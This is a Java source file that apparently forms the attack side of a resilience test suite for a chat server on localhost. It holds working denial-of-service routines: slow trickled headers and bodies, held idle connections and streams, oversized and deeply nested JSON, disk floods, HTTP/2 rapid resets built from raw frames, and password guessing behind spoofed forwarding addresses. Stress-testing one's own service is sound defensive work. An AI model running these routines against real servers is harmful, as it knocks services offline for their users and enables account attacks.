package chat.parley.siege;

import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BooleanSupplier;

/// A way to stop a server. Each goes on until it is told to end, at a pace that leaves the machine
/// to the program that is attacked.
enum Attack {
  HALF_SENT_FORMS("450 forms of 1 MB, all but ten bytes of each") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      String body = "e=" + "x".repeat(1_048_554);
      hold(
          100,
          tally,
          goesOn,
          () ->
              field.connect(
                  "POST /sign-in HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: "
                      + Field.somewhere(random)
                      + FORM
                      + "Transfer-Encoding: chunked\r\n\r\n100000\r\n"
                      + body.substring(0, 64 * 1024)),
          "");
    }
  },
  TRICKLED_HEADERS("a header of which a byte comes now and then") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      hold(
          300,
          tally,
          goesOn,
          () -> field.connect("GET /up HTTP/1.1\r\nHost: localhost\r\nX-Slow: "),
          "x");
    }
  },
  TRICKLED_BODIES("a form of which a byte comes now and then") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      hold(
          300,
          tally,
          goesOn,
          () ->
              field.connect(
                  "POST /sign-in HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: "
                      + Field.somewhere(random)
                      + FORM
                      + "Content-Length: 16000\r\n\r\n"),
          "x");
    }
  },
  SILENT_CONNECTIONS("connections that say nothing") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      hold(600, tally, goesOn, () -> field.connect(""), "");
    }
  },
  MANY_STREAMS("1,500 streams of one member") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      String chat = begin(field.attacker(), "openai/good", "A chat");
      String asked = field.attacker().head("GET /sse/" + chat) + "\r\n";
      hold(1_500, tally, goesOn, () -> field.connect(asked), "");
    }
  },
  WRONG_SIGN_INS("wrong passwords from changing addresses") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      while (goesOn.getAsBoolean()) {
        Caller stranger = new Caller(field.site(), Field.somewhere(random));
        count(
            tally,
            stranger.post(
                "/sign-in",
                Map.of("email", "a" + random.nextInt() + "@example.org", "password", "wrong")));
      }
    }
  },
  LARGE_FORMS("a megabyte at once: very many values, deep and wide JSON") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      List<String> bodies =
          List.of(
              "{\"text\":" + "[".repeat(1_000_000),
              "{" + "\"a\":{".repeat(160_000),
              "{\"a\":[" + "0,".repeat(500_000) + "0]}");
      while (goesOn.getAsBoolean()) {
        count(
            tally,
            random.nextBoolean()
                ? field
                    .attacker()
                    .post(
                        "/messages", "application/x-www-form-urlencoded", "a&b&c&".repeat(170_000))
                : field
                    .attacker()
                    .post(
                        "/messages",
                        "application/json",
                        bodies.get(random.nextInt(bodies.size()))));
        Thread.sleep(50);
      }
    }
  },
  DISK_FLOOD("messages of 100,000 characters, echoed") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      while (goesOn.getAsBoolean()) {
        count(
            tally,
            field
                .attacker()
                .post("/messages", Map.of("text", "漢".repeat(100_000), "model", "openai/echo")));
        Thread.sleep(300);
      }
    }
  },
  HOSTILE_ANSWERS("answers that cost much to show, and their pages") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      List<String> chats = new ArrayList<>();
      while (goesOn.getAsBoolean()) {
        String model = HostileModels.NAMES.get(random.nextInt(HostileModels.NAMES.size()));
        HttpResponse<String> sent =
            field.sender().post("/messages", Map.of("text", "Go on", "model", "openai/" + model));
        count(tally, sent);
        sent.headers().firstValue("Location").ifPresent(chats::add);
        if (!chats.isEmpty()) {
          String chat = chats.get(random.nextInt(chats.size()));
          tally.count("page " + field.sender().get(chat, "text/html").statusCode());
        }
        Thread.sleep(100);
      }
    }
  },
  LONG_LISTS("lists of 2,000 models with names of 3,850 characters, and the page with the menu") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      while (goesOn.getAsBoolean()) {
        HttpResponse<String> home = field.attacker().get("/", "text/html");
        tally.count(home.body().length() > 1_000_000 ? "a page of over 1 MB" : "a small page");
        Thread.sleep(200);
      }
    }
  },
  SLOW_READERS("pages and streams that nobody reads") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      String chat = begin(field.sender(), "openai/long", "Write much");
      String page = field.sender().head("GET /chat/" + chat) + "Accept: text/html\r\n\r\n";
      String plain = field.sender().head("GET /chat/" + chat) + "Accept: text/plain\r\n\r\n";
      hold(60, tally, goesOn, () -> field.connect(random.nextBoolean() ? page : plain), "");
    }
  },
  RAPID_RESETS("HTTP/2 streams that are reset as soon as they are asked for") {
    @Override
    void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn) throws Exception {
      while (goesOn.getAsBoolean()) {
        try (Socket socket = field.connect("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0")) {
          for (int stream = 1; stream < 6_000 && goesOn.getAsBoolean(); stream += 2) {
            socket.getOutputStream().write(requestAndReset(stream));
          }
          tally.count("taken");
        } catch (IOException e) {
          tally.count("cut off");
        }
        Thread.sleep(200);
      }
    }
  };

  static final String FORM = "\r\nContent-Type: application/x-www-form-urlencoded\r\n";

  private final String what;

  Attack(String what) {
    this.what = what;
  }

  String what() {
    return what;
  }

  abstract void strike(Field field, Random random, Tally tally, BooleanSupplier goesOn)
      throws Exception;

  private interface Opening {
    Socket open() throws IOException;
  }

  /// Holds so many connections, says something on each of them again and again, and opens others in
  /// the place of those that are ended.
  private static void hold(
      int count, Tally tally, BooleanSupplier goesOn, Opening opening, String word)
      throws InterruptedException {
    List<Socket> held = new ArrayList<>();
    try {
      while (goesOn.getAsBoolean()) {
        for (int i = 0; i < 20 && held.size() < count; i++) {
          try {
            held.add(opening.open());
          } catch (IOException e) {
            tally.count("cut off");
          }
        }
        for (Socket socket : List.copyOf(held.subList(0, Math.min(5, held.size())))) {
          String said = Field.said(socket);
          if (!said.equals("held")) {
            tally.count(said);
            quietlyClose(socket);
            held.remove(socket);
          }
        }
        for (Socket socket : List.copyOf(held)) {
          say(socket, word);
        }
        java.util.Collections.rotate(held, -5);
        Thread.sleep(20);
      }
    } finally {
      held.forEach(one -> {
        tally.count("held to the end");
        quietlyClose(one);
      });
    }
  }

  private static void say(Socket socket, String word) {
    try {
      socket.getOutputStream().write(word.getBytes(StandardCharsets.US_ASCII));
    } catch (IOException e) {
      // What it was told is read in its turn.
    }
  }

  private static void quietlyClose(Socket socket) {
    try {
      socket.close();
    } catch (IOException e) {
      // It is gone all the same.
    }
  }

  private static void count(Tally tally, HttpResponse<String> response) {
    tally.count(String.valueOf(response.statusCode()));
  }

  /// @return the id of the chat
  private static String begin(Caller who, String model, String text)
      throws IOException, InterruptedException {
    HttpResponse<String> sent = who.post("/messages", Map.of("text", text, "model", model));
    return sent.headers()
        .firstValue("Location")
        .orElseThrow(() -> new IOException("refused with " + sent.statusCode()))
        .replace("/chat/", "");
  }

  /// Headers that ask for /up, and the end of their stream.
  private static byte[] requestAndReset(int stream) {
    byte[] fields = {
      (byte) 0x82, (byte) 0x86, 0x04, 0x03, '/', 'u', 'p', 0x01, 0x04, 'h', 'o', 's', 't'
    };
    java.nio.ByteBuffer frames = java.nio.ByteBuffer.allocate(9 + fields.length + 13);
    frames.put(new byte[] {0, 0, (byte) fields.length, 1, 5}).putInt(stream).put(fields);
    frames.put(new byte[] {0, 0, 4, 3, 0}).putInt(stream).putInt(8);
    return frames.array();
  }
}
